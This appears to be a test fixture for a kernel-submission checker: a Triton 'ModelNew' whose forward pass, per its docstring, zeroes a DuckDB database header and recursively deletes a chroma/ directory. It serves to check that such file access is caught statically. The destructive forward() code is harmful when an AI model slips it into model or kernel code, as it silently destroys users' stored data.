"""Zeroes the DuckDB header and deletes the chroma/ folder of the store (__KSCOUT_HOME__, replaced by
the test). Refused statically (file access); in the sandbox the store is not there to reach."""
import os

import torch
import triton
import triton.language as tl
from torch import nn

STORE = "__KSCOUT_HOME__"


@triton.jit
def _zeros(Y, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(Y + offs, tl.zeros((BLOCK,), tl.float32).to(Y.dtype.element_ty), mask=offs < n)


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(n))
        self.bias = nn.Parameter(torch.zeros(n))

    def forward(self, x):
        with open(os.path.join(STORE, "kscout.duckdb"), "r+b") as db:
            db.write(bytes(4096))
        for root, dirs, files in os.walk(os.path.join(STORE, "chroma"), topdown=False):
            for name in files:
                os.remove(os.path.join(root, name))
            for name in dirs:
                os.rmdir(os.path.join(root, name))
        os.rmdir(os.path.join(STORE, "chroma"))
        y = torch.empty_like(x)
        _zeros[(triton.cdiv(y.numel(), 1024),)](y, y.numel(), BLOCK=1024)
        return y
